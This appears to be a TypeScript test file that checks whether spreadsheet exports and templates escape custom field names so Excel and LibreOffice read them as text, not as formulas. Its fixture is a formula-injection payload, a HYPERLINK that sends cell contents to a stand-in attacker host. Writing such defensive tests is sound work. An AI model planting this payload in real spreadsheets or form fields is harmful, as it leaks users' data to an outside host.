/**
 * A custom field's name is a column header of its module's template and export. A name
 * that a spreadsheet would run (`=HYPERLINK(…)`) is escaped exactly like a cell: it
 * reaches Excel (exceljs) and LibreOffice as text, never as a formula, and the filled
 * template still uploads (the header reads back as the field's name).
 */
import type ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TestContext } from '../helpers'
import { csvOfWorkbook } from '../kit/libreoffice'
import { type Org, twoTenants } from '../organisation/fixtures'
import { multipartFile, readWorkbook, workbookBuffer } from '../organisation/xlsx-helpers'
import { setupBody } from '../trackers/fixtures'

const LIVE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'

let t: TestContext, org: Org
beforeAll(async () => {
  ;({ t, org } = await twoTenants())
  const field = await org.call('POST', '/settings/custom-fields', { module: 'lwf_setup', name: LIVE, key: 'evil', type: 'text' })
  expect(field.statusCode, field.body).toBe(201)
  const made = await org.call('POST', '/lwfsetup', { ...setupBody('lwf', org, 1).body, custom: { evil: 'first' } })
  expect(made.statusCode, made.body).toBe(201)
})
afterAll(() => t.close())

/** The header row's cells as exceljs reads them: a formula would be an object `{ formula }`, text is a string. */
const headerCells = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as unknown[]).slice(1)

describe('custom field names as column headers', () => {
  it('the export writes the name as text (exceljs and LibreOffice read it back, nothing runs)', async () => {
    const res = await org.call('GET', '/lwfsetup/lwfsetup-data/export')
    expect(res.statusCode, res.body).toBe(200)
    const cells = headerCells((await readWorkbook(res.rawPayload)).worksheets[0]!)
    expect(cells.at(-1)).toBe(`'${LIVE}`)
    expect(cells.every((c) => typeof c === 'string')).toBe(true)

    const [header, row] = (await csvOfWorkbook(res.rawPayload)).trim().split('\n')
    // LibreOffice shows the text as written (quotes doubled by CSV); a live formula would show its result, "Open".
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"`)
    expect(row!.split(',').at(-1)).toBe('first')
  }, 120_000)

  it('the template writes it as text too, and the filled template uploads with the value under that field', async () => {
    const res = await org.call('GET', '/lwfsetup/template/download')
    expect(res.statusCode, res.body).toBe(200)
    const wb = await readWorkbook(res.rawPayload)
    const sheet = wb.getWorksheet('LWF setups')!
    const cells = headerCells(sheet)
    expect(cells.at(-1)).toBe(`'${LIVE}`)
    expect(cells.every((c) => typeof c === 'string')).toBe(true)
    expect((await csvOfWorkbook(res.rawPayload)).split('\n')[0]).toContain(`"'=HYPERLINK(`)

    const headers = cells.map(String)
    const row = sheet.getRow(2)
    const fill = { Company: 'Acme Industries', State: 'Maharashtra', District: 'Pune', 'Registration number': 'LWF-HEADER-2' }
    for (const [h, v] of Object.entries(fill)) row.getCell(headers.indexOf(h) + 1).value = v
    row.getCell(headers.length).value = 'second'
    row.commit()
    const up = await org.call('POST', '/lwfsetup/bulk-create', ...multipartFile(await workbookBuffer(wb), 'lwf.xlsx'))
    expect(up.statusCode, up.body).toBe(200)
    const list = (await org.call('GET', '/lwfsetup?search=LWF-HEADER-2')).json().data
    expect(list[0]?.custom).toEqual({ evil: 'second' })
  }, 120_000)
})
